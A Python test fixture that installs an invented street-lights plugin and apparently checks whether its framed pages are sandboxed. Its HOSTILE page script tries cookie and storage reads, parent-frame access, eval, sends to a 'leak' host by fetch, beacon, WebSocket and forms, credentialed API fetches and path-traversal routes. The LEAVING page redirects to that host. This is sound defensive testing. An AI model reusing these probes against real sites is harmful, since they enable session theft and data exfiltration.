"""An invented plugin with pages in frames, one useful and one hostile, installed in a demonstration county."""

import json
from pathlib import Path

from tests.core.plugins.example import manifest
from tests.journeys.registers import STREET, done, signed_in
from tests.sdk.test_guide import blocks

PLUGIN = "acme.lamps"
GUIDE = blocks("en", "frames")
"""The guide's own example is one of the pages."""
TITLE = {"zh-CN": "路灯", "en": "Street lights"}
ORDER = {"zh-CN": "订灯泡", "en": "Order bulbs"}
HOME = {
    "type": "object",
    "required": ["pole"],
    "additionalProperties": False,
    "properties": {"pole": {"type": "string", "maxLength": 20, "x-i18n": {"title": TITLE}}},
}
SETTINGS = {
    "type": "object",
    "additionalProperties": False,
    "properties": {
        "most": {"type": "integer", "minimum": 1, "default": 3, "x-i18n": {"title": {"zh-CN": "每街最多", "en": "Most in a street"}}},
        "key": {"type": "string", "maxLength": 80, "x-i18n": {"title": {"zh-CN": "接口密钥", "en": "Key"}}},
    },
}
BULBS = {
    "type": "object",
    "required": ["many"],
    "additionalProperties": False,
    "properties": {"many": {"type": "integer", "minimum": 1, "x-i18n": {"title": {"zh-CN": "数量", "en": "How many"}}}},
}
LAMPS = {
    "name": "lamp",
    "title": TITLE,
    "schema": "lamp.json",
    "data_class": "internal",
    "retention": "P1Y",
    "indexes": [["pole"]],
    "columns": ["pole"],
}
CODE = """
from wangge_sdk.hooks.handlers import performs, serves
from wangge_sdk.views import CommandAnswer, Refusal, RouteAnswer


@serves
def count(ctx, request):
    return RouteAnswer(output={"count": 3, "street": request.parameters["street"], "area": ctx.area})


@performs
def recount():
    return CommandAnswer(message={"zh-CN": "数过了。", "en": "Counted."})


@performs
def order(request):
    many = request.input["many"]
    if many > 100:
        return CommandAnswer(refused=Refusal(status=409, message={"zh-CN": "没有这么多。", "en": "There are not so many."}))
    return CommandAnswer(message={"zh-CN": f"订了 {many} 只。", "en": f"Ordered {many}."}, open="page:guide")
"""
GOOD = """
const app = document.getElementById('app');
const lines = document.createElement('ul');
lines.id = 'lines';
const button = document.createElement('button');
button.textContent = 'count';
app.append(lines, button);
const { area, language } = await wangge.ready;
document.body.dataset.language = language;
const say = (text) => lines.append(Object.assign(document.createElement('li'), { textContent: text }));
wangge.on('language', (now) => { document.body.dataset.language = now; });
const found = await wangge.collections.list('acme.lamps:lamp', { area });
for (const { body } of found.items) say(body.pole);
const { count, street } = await wangge.route('GET', '/count/Main St');
say(`${street}: ${count}`);
await wangge.toast('三盏路灯');
button.onclick = async () => {
  const { message } = await wangge.command('recount');
  say(message.en);
};
document.body.dataset.done = 'yes';
"""
HOSTILE = """
const results = {};
const { values } = await wangge.ready;
const leak = `${values.leak}/leaked`;
const here = new URL(import.meta.url).origin;
const loads = (tag, set) => new Promise((resolve) => {
  const element = document.createElement(tag);
  element.onload = () => resolve(tag === 'iframe' ? 'loaded something' : 'OPEN');
  element.onerror = () => resolve('refused');
  set(element);
  document.body.append(element);
  setTimeout(() => resolve('nothing came'), 1500);
});
const asks = (promise) => promise.then((answer) => `OPEN ${JSON.stringify(answer)}`, (error) => `refused ${error.code}`);
const acts = {
  cookie: () => document.cookie,
  local_storage: () => localStorage.length,
  session_storage: () => sessionStorage.length,
  indexed_db: () => indexedDB.open('x'),
  caches: () => caches.keys(),
  parent_document: () => parent.document.title,
  parent_address: () => parent.location.href,
  top_address: () => { top.location.href = leak; return 'set'; },
  frame_element: () => { if (frameElement === null) throw new Error('null'); return frameElement; },
  open_window: () => { if (open(leak) === null) throw new Error('null'); return 'opened'; },
  evaluate: () => eval('1 + 1'),
  function_maker: () => new Function('return 1')(),
  fetch_outside: () => fetch(leak),
  fetch_inside: () => fetch(`${here}/api/v1/me`, { credentials: 'include' }).then((answer) => answer.text()),
  fetch_no_cors: () => fetch(leak, { mode: 'no-cors' }),
  request: () => new Promise((resolve, reject) => {
    const request = new XMLHttpRequest();
    request.onload = resolve;
    request.onerror = reject;
    request.open('GET', `${here}/api/v1/me`);
    request.send();
  }),
  socket: () => new Promise((resolve, reject) => {
    const socket = new WebSocket(leak.replace('http', 'ws'));
    socket.onopen = resolve;
    socket.onerror = reject;
  }),
  event_source: () => new Promise((resolve, reject) => {
    const source = new EventSource(leak);
    source.onopen = resolve;
    source.onerror = reject;
  }),
  worker: () => new Promise((resolve, reject) => {
    const worker = new Worker(`${here}/plugins/x.js`);
    worker.onmessage = resolve;
    worker.onerror = reject;
    setTimeout(reject, 1000);
  }),
  service_worker: () => navigator.serviceWorker.register('/x.js'),
  module: () => import(leak),
  peer: () => new RTCPeerConnection(),
  peer_of_a_child: () => {
    const child = document.createElement('iframe');
    document.body.append(child);
    return new child.contentWindow.RTCPeerConnection();
  },
  where: () => new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject)),
};
for (const [name, act] of Object.entries(acts)) {
  try {
    const got = await act();
    results[name] = `OPEN ${got}`;
  } catch (error) {
    results[name] = `refused ${error?.name ?? ''}`;
  }
}
navigator.sendBeacon(leak, 'x');
results.image = await loads('img', (element) => { element.src = leak; });
results.image_inside = await loads('img', (element) => { element.src = `${here}/api/v1/me`; });
results.script = await loads('script', (element) => { element.src = leak; });
results.inline_script = await new Promise((resolve) => {
  const element = document.createElement('script');
  element.textContent = "document.body.dataset.inline = 'ran'";
  document.body.append(element);
  resolve(document.body.dataset.inline ? 'OPEN' : 'refused');
});
results.style = await loads('link', (element) => { element.rel = 'stylesheet'; element.href = leak; });
results.prefetch = await loads('link', (element) => { element.rel = 'prefetch'; element.href = leak; });
results.embedded = await loads('object', (element) => { element.data = leak; });
await loads('iframe', (element) => { element.src = leak; });
const form = document.createElement('form');
form.action = leak;
form.method = 'post';
document.body.append(form);
form.submit();
const picture = document.createElement('div');
picture.setAttribute('style', `background: url(${leak})`);
document.body.append(picture);
parent.postMessage({ kind: 'wangge', context: {} }, '*');
results.no_method = await asks(wangge.ask('constructor'));
results.outside_method = await asks(wangge.ask('http.fetch', { url: leak }));
results.people = await asks(wangge.ask('people.get', { id: '1' }));
results.other_plugin = await asks(wangge.collections.list('acme.rented-homes:home', {}));
results.other_area = await asks(wangge.collections.list('acme.lamps:lamp', { area: '999901002' }));
results.path_out = await asks(wangge.route('GET', '/../../api/v1/me'));
results.path_encoded = await asks(wangge.route('GET', '/%2e%2e/%2e%2e/api/v1/me'));
results.path_host = await asks(wangge.route('GET', '//example.com/x'));
results.path_none = await asks(wangge.route('GET', '/nothing'));
results.unknown_command = await asks(wangge.command('nothing'));
results.open_out = await asks(wangge.open('../../cases'));
document.body.dataset.results = JSON.stringify(results);
"""
LEAVING = """
const { values } = await wangge.ready;
location.href = `${values.leak}/leaked`;
"""
CONTRIBUTES = {
    "settings": {"area": "settings.json", "secrets": ["key"]},
    "permissions": [{"id": "survey", "title": TITLE, "risk": "low"}],
    "roles": [{"id": "keeper", "title": TITLE, "permissions": ["survey"]}],
    "routes": [{"method": "GET", "path": "/count/{street}", "handler": "count", "permission": "survey", "output": "count.json"}],
    "ui": {
        "pages": [
            {"id": name, "title": TITLE, "render": "frame", "source": f"ui/{name}.js", "permission": "survey", "min_height": 200}
            for name in ("good", "hostile", "leaving")
        ]
        + json.loads(GUIDE["a page in plugin.json"])["contributes"]["ui"]["pages"],
        "menus": [
            *json.loads(GUIDE["a page in plugin.json"])["contributes"]["ui"]["menus"],
            {"location": "staff.sidebar", "target": "command:order", "order": 70},
        ],
        "commands": [
            {"id": "recount", "title": TITLE, "handler": "recount", "permission": "survey", "confirm": True},
            {"id": "order", "title": ORDER, "handler": "order", "permission": "survey", "confirm": True, "input": "order.json"},
        ],
    },
}


def lay(county: Path) -> None:
    """Put the plugin where installed wheels lie, before the server starts."""
    package = county / "plugins" / PLUGIN / "1.2.0" / "0" / "site-packages" / "acme_lamps"
    (package / "ui").mkdir(parents=True)
    declared = manifest(
        PLUGIN,
        kind="service",
        runtime={"isolation": "worker", "module": "acme_lamps.hooks", "limits": {"memory_mb": 128}},
        data={"collections": [LAMPS]},
        contributes=CONTRIBUTES,
    )
    for name, content in (
        ("plugin.json", declared),
        ("lamp.json", HOME),
        ("settings.json", SETTINGS),
        ("order.json", BULBS),
        ("count.json", {"type": "object"}),
    ):
        (package / name).write_text(json.dumps(content, ensure_ascii=False), encoding="utf-8")
    scripts = {"ui/good.js": GOOD, "ui/hostile.js": HOSTILE, "ui/leaving.js": LEAVING}
    guide = {name: text for name, text in GUIDE.items() if name.startswith("ui/")}
    for name, text in {"__init__.py": "", "hooks.py": CODE, **scripts, **guide}.items():
        (package / name).write_text(text, encoding="utf-8")


def fill(base: str) -> None:
    """Switch it on in a street, give the street's dispatchers its role and its lamps, and enter two."""
    with signed_in(base, "admin.system") as admin:
        plugin = f"/api/v1/plugins/{PLUGIN}"
        asked = done(admin.get(f"{plugin}/grant", params={"area": STREET}))
        done(admin.put(f"{plugin}/grant", params={"area": STREET}, json={"number": asked["number"], "manifest": asked["manifest"]}))
        done(admin.put(f"{plugin}/areas/{STREET}", json={"enabled": True}))
    with signed_in(base, "admin.security") as security:
        rights = [f"{PLUGIN}:lamp.{action}" for action in ("read", "write")]
        title = {"zh-CN": "路灯管理员", "en": "Keeper of lamps"}
        done(security.put("/api/v1/roles/lamp_keeper", json={"title": title, "permissions": rights, "inherits": [f"{PLUGIN}:keeper"]}))
        for held in done(security.get("/api/v1/positions", params={"role": "township_dispatcher"}))["items"]:
            if held["area"]["code"] == STREET:
                position = {"person_id": held["person_id"], "role": "lamp_keeper", "area": STREET}
                done(security.post("/api/v1/positions", json=position))
    with signed_in(base, "dispatch.wenlan") as dispatcher:
        for pole in ("A-1", "A-2"):
            body = {"area": STREET, "body": {"pole": pole}}
            done(dispatcher.post(f"/api/v1/collections/{PLUGIN}/lamp/documents", json=body))
